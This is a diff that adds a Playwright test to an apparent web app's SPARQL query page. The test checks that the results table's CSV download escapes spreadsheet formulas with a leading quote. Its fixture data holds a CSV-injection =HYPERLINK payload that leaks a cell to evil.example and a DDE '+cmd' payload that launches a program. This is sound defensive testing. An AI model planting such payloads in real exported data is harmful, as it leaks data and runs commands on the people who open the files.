@@ -8,6 +8,9 @@ on any console error, so an inline handler the Content-Security-Policy had to re
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from playwright.sync_api import expect
 
@@ -70,3 +73,28 @@ def test_query_map_view_shows_names_as_text_and_no_javascript_link(page):
     expect(popup.locator("strong")).to_have_text(NAME)
     expect(popup.locator("a")).to_have_count(0)
     expect(popup.locator("img")).to_have_count(0)
+
+
+def test_the_tables_csv_download_gives_formulas_from_data_as_text(page):
+    """The results table's download is a CSV to open in a spreadsheet, where a value starting with = or + would run
+    as a formula (a loaded project's name: =HYPERLINK leaking other cells): it starts with a quote, as in the Find
+    projects download; a value that does not is as the answer has it."""
+    page.goto("/query")
+    page.wait_for_selector("body[data-examples-ready=true]")
+    page.evaluate("""() => window.ascnYasgui.getTab().getYasqe().setValue(
+        'SELECT ?name ?description ?city WHERE { <https://w3id.org/ascn/id/project/formula-project> ' +
+        '<http://www.w3.org/2000/01/rdf-schema#label> ?name ; <http://purl.org/dc/terms/description> ?description ;' +
+        ' <https://w3id.org/ascn/ontology#inCity> ?city }')""")
+    page.click(f"{ACTIVE} .yasqe_queryButton")
+    expect(page.locator(f"{ACTIVE} .yasr_results tbody tr")).to_have_count(1)
+    with page.expect_download() as download:
+        page.locator(f"{ACTIVE} .yasr_downloadIcon").click()
+    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"), newline="")))
+    assert rows == [
+        ["name", "description", "city"],
+        [
+            '\'=HYPERLINK("https://evil.example/?leak="&A1,"Formula project")',
+            "'+cmd|' /C calc'!A0",
+            "https://w3id.org/ascn/id/city/hostile-town",
+        ],
+    ]
